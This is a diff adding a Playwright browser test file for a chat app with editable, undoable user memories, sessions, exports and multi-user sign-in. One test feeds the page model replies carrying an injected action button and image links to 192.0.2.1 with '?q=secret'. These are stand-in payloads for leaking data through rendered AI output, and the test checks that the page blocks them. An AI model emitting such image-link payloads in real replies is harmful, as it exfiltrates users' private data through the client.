@@ -1,0 +1,205 @@
+"""The page as people use it, in a real Chromium: talk, stop, edit, undo, forget, sign in as two at once."""
+
+from __future__ import annotations
+
+import re
+import time
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from .conftest import PASSWORDS, Served
+
+LINE = "#line textarea"
+
+
+@pytest.fixture
+def page(local: Served, browser: Any) -> Iterator[Any]:
+    """A fresh window of the local user, with nothing remembered."""
+    local.tell(set={"gated": False, "delay": 0.0, "says": ["Nice ", "to ", "meet ", "you."]})
+    local.store.forget_user(local.store.user("me").id)
+    window = browser.new_page(viewport={"width": 1280, "height": 800})
+    window.set_default_timeout(15_000)
+    asked: list[str] = []
+    window.on("requestfinished", lambda request: asked.append(request.url))  # one that is blocked is not finished
+    window.goto(local.url)
+    window.wait_for_selector(LINE)
+    window.wait_for_selector("#status b")
+    yield window
+    window.close()
+    assert not [url for url in asked if not url.startswith((local.url, "data:", "blob:"))]
+
+
+def say(window: Any, text: str) -> None:
+    window.fill(LINE, text)
+    window.press(LINE, "Enter")
+
+
+def see(window: Any, place: str, text: str) -> None:
+    """Waits until a text is shown at a place."""
+    window.wait_for_function(
+        "([place, text]) => [...document.querySelectorAll(place)].some(e => e.innerText.includes(text))",
+        arg=[place, text],
+    )
+
+
+def gone(window: Any, place: str, text: str) -> None:
+    window.wait_for_function(
+        "([place, text]) => ![...document.querySelectorAll(place)].some(e => e.innerText.includes(text))",
+        arg=[place, text],
+    )
+
+
+def test_a_line_is_answered_remembered_and_taken_back_by_its_chip(page: Any, local: Served) -> None:
+    say(page, "fact: I have two cats.")
+    see(page, "#chat", "Nice to meet you.")
+    see(page, "#chat .cm-chip", "+ I have two cats.")
+    see(page, "#memory .cm-flash", "I have two cats.")
+    see(page, "#sessions", "fact: I have two cats.")
+    page.click("#chat .cm-chip >> text=Undo")
+    gone(page, "#memory", "I have two cats.")
+    see(page, "#chat .cm-chip.undone", "I have two cats.")
+    assert local.store.memories(local.store.user("me").id) == []
+    page.click("#chat .cm-chip >> text=Redo")
+    see(page, "#memory", "I have two cats.")
+
+
+def test_a_reply_is_stopped_and_what_was_shown_is_kept(page: Any, local: Served) -> None:
+    local.tell(set={"gated": True})
+    say(page, "hello")
+    page.wait_for_selector("#stop:visible")
+    local.tell(release=2)
+    see(page, "#chat", "Nice")
+    page.click("#stop")
+    page.wait_for_selector("#send:visible")
+    local.tell(set={"gated": False}, release=3)
+    see(page, "#chat", "what you see is kept")
+    [session] = local.store.sessions(local.store.user("me").id)
+    turns = local.store.turns(session.id)
+    assert turns[-1].status == "stopped" and "Nice to meet you.".startswith(turns[-1].text)
+    say(page, "and now?")
+    see(page, "#chat", "Nice to meet you.")
+
+
+def test_a_line_is_said_anew_and_its_writes_go_first(page: Any, local: Served) -> None:
+    say(page, "fact: I have two cats.")
+    see(page, "#memory", "I have two cats.")
+    page.click("#chat button[aria-label=Retry]")
+    see(page, "#chat", "(1) Nice to meet you.")
+    page.click("#chat button[aria-label=Edit]")
+    page.fill("#chat textarea", "fact: I have three cats.")
+    page.click("#chat button[aria-label=Submit]")
+    see(page, "#memory", "I have three cats.")
+    gone(page, "#memory", "I have two cats.")
+    assert [one.fact for one in local.store.memories(local.store.user("me").id)] == ["I have three cats."]
+
+
+def test_a_row_is_corrected_in_place_pinned_explained_and_forgotten(page: Any, local: Served) -> None:
+    say(page, "fact: I have two cats.")
+    page.click("#memory [data-act=edit]")
+    page.fill("#memory form textarea", "I have four <b>cats</b>.")
+    page.press("#memory form textarea", "Enter")
+    see(page, "#memory", "I have four <b>cats</b>.")
+    page.click("#memory [data-act=pin]")
+    see(page, "#memory .cm-meta", "pinned")
+    page.click("#memory [data-act=history]")
+    see(page, "#detail", "-> I have four <b>cats</b>.")
+    say(page, "what pets do I have?")
+    see(page, "#chat", "what pets do I have?")
+    page.wait_for_selector("#send:visible")
+    page.get_by_role("tab", name="Why").click()
+    see(page, "#tab-why", "fact: I have two cats.")  # the line that it came from
+    page.get_by_role("tab", name="Chat").click()
+    page.click("#memory [data-act=forget]")
+    see(page, "#question", "Erase for good")
+    page.click("#yes")
+    gone(page, "#memory", "cats")
+    user = local.store.user("me").id
+    assert local.store.memories(user, current=False) == [] and local.store.journal(user) == []
+
+
+def test_what_a_model_says_can_neither_act_nor_call_out(page: Any, local: Served) -> None:
+    says = ('<button data-act="undo" data-id="1">free</button> ',
+                        '<img src="http://192.0.2.1/?q=secret"> ![x](http://192.0.2.1/y.png) done')  # fmt: skip
+    local.tell(set={"says": says})
+    say(page, "fact: I have two cats.")
+    see(page, "#chat", "done")
+    assert page.locator("#chat [data-testid=bot] .md [data-act]").count() == 0
+
+
+def test_tabs_show_the_journal_rows_files_and_settings(page: Any, local: Served) -> None:
+    say(page, "fact: I have two cats.")
+    see(page, "#memory", "I have two cats.")
+    page.get_by_role("tab", name="Journal").click()
+    see(page, "#tab-journal", "INSERT INTO memory")
+    page.get_by_role("tab", name="SQL").click()
+    page.click("#run")
+    see(page, "#result", "facts")
+    page.get_by_role("tab", name="Files").click()
+    with page.expect_download() as download:
+        page.click("#export-csv")
+    assert "I have two cats." in download.value.path().read_text()
+    page.set_input_files("#file input[type=file]", files=[
+        {"name": "facts.csv", "mimeType": "text/csv", "buffer": b"subject,fact\nAna,Ana sails.\n"}])  # fmt: skip
+    see(page, "#plan", "1 memories")
+    page.click("#take")
+    see(page, "#plan", "Imported")
+    page.get_by_role("tab", name="Settings").click()
+    page.check("#incognito input")
+    see(page, "#status", "incognito")
+
+
+def test_a_session_is_found_taken_up_and_deleted(page: Any, local: Served) -> None:
+    say(page, "fact: I have two cats.")
+    see(page, "#sessions", "two cats")
+    page.wait_for_selector("#send:visible")
+    page.click("#new")
+    gone(page, "#chat", "two cats")
+    say(page, "hello")
+    see(page, "#sessions", "hello")
+    page.fill("#find input, #find textarea", "two cats")
+    gone(page, "#sessions", "hello")
+    page.click("#sessions [data-act=resume]")
+    see(page, "#chat", "fact: I have two cats.")
+    page.click("#sessions [data-act=delete]")
+    see(page, "#question", "Delete session")
+    page.click("#yes")
+    gone(page, "#chat", "two cats")
+
+
+def test_it_fits_a_phone(page: Any, local: Served) -> None:
+    page.set_viewport_size({"width": 390, "height": 800})
+    page.reload()
+    page.wait_for_selector(f"{LINE}:visible")
+    say(page, "fact: " + "a very long fact " * 10)
+    see(page, "#memory", "a very long fact")
+    page.wait_for_timeout(600)
+    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    box = page.locator(LINE).bounding_box()
+    assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390 and box["y"] < 800
+
+
+def test_two_people_sign_in_at_once_and_see_only_their_own(shared: Served, browser: Any) -> None:
+    windows = {}
+    for name, password in PASSWORDS.items():
+        window = browser.new_context().new_page()
+        window.set_default_timeout(15_000)
+        window.goto(shared.url)
+        window.get_by_label(re.compile("user", re.I)).fill(name)
+        window.get_by_label(re.compile("pass", re.I)).fill(password)
+        window.get_by_role("button", name=re.compile("log ?in|sign ?in", re.I)).click()
+        window.wait_for_selector(LINE)
+        windows[name] = window
+    for name, window in windows.items():
+        see(window, "#status b", name)
+        say(window, f"fact: {name} keeps a secret.")
+    for name, window in windows.items():
+        see(window, "#memory", f"{name} keeps a secret.")
+    time.sleep(1.5)
+    for name, window in windows.items():
+        other = next(each for each in windows if each != name)
+        assert f"{other} keeps" not in window.content()
+        window.click("#signout")
+        window.wait_for_selector(LINE, state="detached")
+        window.context.close()
